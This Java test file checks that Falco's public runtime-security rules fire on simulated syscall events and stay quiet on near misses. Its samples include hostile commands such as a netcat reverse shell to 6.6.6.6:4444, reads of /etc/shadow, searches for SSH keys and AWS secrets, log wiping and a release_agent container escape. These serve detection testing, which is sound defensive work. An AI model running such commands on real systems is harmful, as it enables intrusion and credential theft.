package io.pratique.runtime.replay;

import static org.assertj.core.api.Assertions.assertThat;

import io.pratique.runtime.capture.Simulation;
import io.pratique.runtime.output.AlertFormat;
import io.pratique.runtime.rule.LoadOptions;
import io.pratique.runtime.rule.RuleFiles;
import io.pratique.runtime.rule.RuleLoader;
import io.pratique.runtime.state.StateLimits;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

/**
 * Every stable public rule fires on a sample that it is meant for, and not on a near miss; run when
 * ../shared stands beside the checkout.
 */
class PublicRulesFireTest {
    private static final String WEB =
            """
            user 1 daemon
            user 33 www-data
            interface eth0 10.0.0.5
            process 1 /sbin/init -- parent=0
            process 5 /usr/bin/containerd-shim -- parent=1
            process 10 /usr/sbin/nginx -- parent=5 uid=33 container=web cwd=/srv caps=0x3fffffffff
            process 20 /usr/sbin/sshd -- parent=1
            process 21 /bin/bash -- parent=20 tty=34816
            process 30 /usr/bin/python3 app.py -- parent=10 container=web cwd=/srv caps=0x3fffffffff
            process 40 /usr/bin/python3 app.py -- parent=1 cwd=/srv
            """;
    private static final String PRIVILEGED =
            "container web '{\"name\":\"web\",\"imagerepo\":\"shop/web\",\"privileged\":true}'\n";
    private static final String UNPRIVILEGED =
            "container web '{\"name\":\"web\",\"imagerepo\":\"shop/web\",\"privileged\":false}'\n";

    private record Sample(String fires, String misses) {}

    private static Map<String, Sample> samples() {
        Map<String, Sample> samples = new LinkedHashMap<>();
        samples.put(
                "Directory traversal monitored file read",
                new Sample("open 30 ../../etc/passwd O_RDONLY", "open 30 /etc/passwd O_RDONLY"));
        samples.put(
                "Read sensitive file trusted after startup",
                new Sample(
                        "spawn 50 1 /usr/sbin/nginx\nwait 60s\nopen 50 /etc/shadow O_RDONLY",
                        "spawn 50 1 /usr/sbin/nginx\nwait 1s\nopen 50 /etc/shadow O_RDONLY"));
        samples.put(
                "Read sensitive file untrusted",
                new Sample("open 40 /etc/shadow O_RDONLY", "open 40 /etc/hostname O_RDONLY"));
        samples.put(
                "Run shell untrusted",
                new Sample("spawn 50 10 /bin/sh -c id", "spawn 50 40 /bin/sh -c id"));
        samples.put(
                "System user interactive",
                new Sample("spawn 50 21 /usr/bin/id -- uid=1", "spawn 50 40 /usr/bin/id -- uid=1"));
        samples.put(
                "Terminal shell in container",
                new Sample(
                        "spawn 50 5 /bin/bash -- container=web tty=34816",
                        "spawn 50 5 /bin/bash -- container=web tty=0"));
        samples.put(
                "Netcat Remote Code Execution in Container",
                new Sample(
                        "spawn 50 30 /bin/nc -e /bin/sh 6.6.6.6 4444",
                        "spawn 50 30 /bin/nc -z 6.6.6.6 4444"));
        samples.put(
                "Search Private Keys or Passwords",
                new Sample(
                        "spawn 50 40 /usr/bin/find / -name id_rsa",
                        "spawn 50 40 /usr/bin/find / -name readme"));
        samples.put(
                "Clear Log Activities",
                new Sample(
                        "open 40 /var/log/syslog O_WRONLY|O_TRUNC",
                        "open 40 /var/log/syslog O_WRONLY|O_APPEND"));
        samples.put(
                "Remove Bulk Data from Disk",
                new Sample("spawn 50 40 /usr/bin/shred -u /x", "spawn 50 40 /bin/rm /x"));
        samples.put(
                "Create Symlink Over Sensitive Files",
                new Sample(
                        "call 40 symlinkat target=/etc linkdirfd=-100 linkpath=/tmp/x",
                        "call 40 symlinkat target=/opt linkdirfd=-100 linkpath=/tmp/x"));
        samples.put(
                "Create Hardlink Over Sensitive Files",
                new Sample(
                        "call 40 linkat olddir=-100 oldpath=/etc/shadow newdir=-100 newpath=/tmp/x flags=0",
                        "call 40 linkat olddir=-100 oldpath=/opt/x newdir=-100 newpath=/tmp/x flags=0"));
        samples.put(
                "Packet socket created in container",
                new Sample(
                        "call 30 socket fd=3 domain=AF_PACKET type=3 proto=768",
                        "call 40 socket fd=3 domain=AF_PACKET type=3 proto=768"));
        samples.put(
                "Redirect STDOUT/STDIN to Network Connection in Container",
                new Sample(
                        "connect 30 10.0.0.5:4000->6.6.6.6:4444\ncall 30 dup2 res=0 oldfd=3 newfd=0",
                        "connect 30 10.0.0.5:4000->6.6.6.6:4444\ncall 30 dup2 res=7 oldfd=3 newfd=7"));
        samples.put(
                "Linux Kernel Module Injection Detected",
                new Sample(
                        "open 30 /x.ko O_RDONLY\ncall 30 finit_module fd=3 uargs='' flags=0",
                        "open 40 /x.ko O_RDONLY\ncall 40 finit_module fd=3 uargs='' flags=0"));
        samples.put(
                "Debugfs Launched in Privileged Container",
                new Sample(
                        PRIVILEGED + "spawn 50 30 /sbin/debugfs",
                        UNPRIVILEGED + "spawn 50 30 /sbin/debugfs"));
        samples.put(
                "Detect release_agent File Container Escapes",
                new Sample(
                        "open 30 /sys/fs/cgroup/release_agent O_WRONLY",
                        "open 30 /sys/fs/cgroup/release_agent O_RDONLY"));
        samples.put(
                "PTRACE attached to process",
                new Sample(
                        "call 40 ptrace request=PTRACE_ATTACH pid=10",
                        "call 40 ptrace request=PTRACE_DETACH pid=10"));
        samples.put(
                "PTRACE anti-debug attempt",
                new Sample(
                        "call 40 ptrace request=PTRACE_TRACEME pid=0",
                        "call 40 ptrace request=PTRACE_CONT pid=0"));
        samples.put(
                "Find AWS Credentials",
                new Sample(
                        "spawn 50 40 /bin/grep -r aws_secret_access_key /",
                        "spawn 50 40 /bin/grep -r needle /"));
        samples.put(
                "Execution from /dev/shm",
                new Sample("spawn 50 40 /dev/shm/x", "spawn 50 40 /opt/x"));
        samples.put(
                "Drop and execute new binary in container",
                new Sample(
                        "spawn 50 30 /tmp/x -- flags=upper",
                        "spawn 50 30 /usr/bin/x -- flags=lower"));
        samples.put(
                "Disallowed SSH Connection Non Standard Port",
                new Sample(
                        "spawn 50 40 /usr/bin/ssh\nconnect 50 10.0.0.5:4000->6.6.6.6:443",
                        "spawn 50 40 /usr/bin/ssh\nconnect 50 10.0.0.5:4000->6.6.6.6:22"));
        samples.put(
                "Fileless execution via memfd_create",
                new Sample("spawn 50 40 /memfd:x -- flags=memfd", "spawn 50 40 /usr/bin/x"));
        return samples;
    }

    private static Set<String> fired(RuleReplay replay, String sample) throws IOException {
        Set<String> names = new TreeSet<>();
        replay.run(
                Simulation.parse(WEB + sample),
                (rule, event, alert) -> {
                    names.add(rule.name());
                    assertThat(alert.text(event.time())).contains("process=");
                    assertThat(alert.json(event.time())).startsWith("{");
                });
        return names;
    }

    @Test
    void everyStableRuleFiresWhenItShouldAndNotWhenItAlmostShould() throws IOException {
        RuleFiles files =
                new RuleLoader(LoadOptions.standard())
                        .load(List.of(RuleLoader.Input.of("stable", Files.readAllBytes(find()))));
        RuleReplay replay =
                new RuleReplay(
                        files.rules(), StateLimits.standard(), AlertFormat.Options::standard);
        TreeSet<String> missing = new TreeSet<>();
        for (Map.Entry<String, Sample> entry : samples().entrySet()) {
            if (!fired(replay, entry.getValue().fires()).contains(entry.getKey())) {
                missing.add("does not fire: " + entry.getKey());
            }
            if (fired(replay, entry.getValue().misses()).contains(entry.getKey())) {
                missing.add("fires on its near miss: " + entry.getKey());
            }
        }
        assertThat(missing).isEmpty();
        TreeSet<String> untried = new TreeSet<>();
        replay.rules().forEach(rule -> untried.add(rule.name()));
        untried.removeAll(samples().keySet());
        // It asks for the name of an address, which no capture tells.
        assertThat(untried).containsExactly("Contact K8S API Server From Container");
    }

    private static Path find() {
        for (Path up = Path.of("").toAbsolutePath(); up != null; up = up.getParent()) {
            Path file = up.resolve("shared/data/falco/rules/falco_rules.yaml");
            if (Files.exists(file)) {
                return file;
            }
        }
        Assumptions.abort("the public rules are not beside this checkout");
        throw new IllegalStateException();
    }
}
